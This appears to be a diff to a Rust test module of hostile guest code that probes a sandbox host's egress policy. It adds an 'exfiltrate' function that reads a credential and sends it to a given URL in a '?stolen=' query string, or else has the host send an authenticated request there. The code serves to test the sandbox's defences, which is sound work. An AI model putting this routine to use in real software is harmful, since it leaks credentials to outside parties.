@@ -1,7 +1,7 @@
 //! Attacks on the egress policy.
 
 use sluice_guest::http::Request;
-use sluice_guest::{DeliveryOutcome, log};
+use sluice_guest::{DeliveryOutcome, credentials, log};
 
 /// GETs `url`, which the host should refuse: failed with the host's error
 /// when it does, delivered with `reached <url>: HTTP <status>` when not.
@@ -52,4 +52,24 @@ pub fn send_many(url: &str, count: u32) -> DeliveryOutcome {
         }
     }
     DeliveryOutcome::delivered(Some(format!("sent {count} requests")))
+}
+
+/// Reads credential `key` to send it to `url` in a query string; when the
+/// host does not let it read the value, asks the host to authenticate a
+/// request to `url` with it instead.
+pub fn exfiltrate(key: &str, url: &str) -> DeliveryOutcome {
+    if let Some(value) = credentials::get(key) {
+        log::warn(
+            "hostile guest read a host-applied credential",
+            &[("key", key)],
+        );
+        return probe(&format!("{url}?stolen={value}"));
+    }
+    match Request::get(url).authenticated(key).send() {
+        Ok(response) => DeliveryOutcome::delivered(Some(format!(
+            "the host sent {key} to {url}: HTTP {}",
+            response.status
+        ))),
+        Err(error) => DeliveryOutcome::failed(format!("GET {url} with {key} failed: {error}")),
+    }
 }
